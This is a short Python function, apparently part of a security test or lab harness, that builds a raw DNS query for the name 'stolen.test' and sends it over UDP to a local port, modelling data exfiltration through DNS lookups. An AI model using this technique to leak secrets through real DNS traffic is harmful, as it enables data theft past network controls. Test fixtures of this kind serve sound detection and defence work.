import socket


def attack(scene, oracle):
    """Ask for a name whose letters are what is stolen."""
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6stolen\4test\0\0\1\0\1"
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    channel.connect(("127.0.0.1", scene["udp"]))
    channel.send(question)
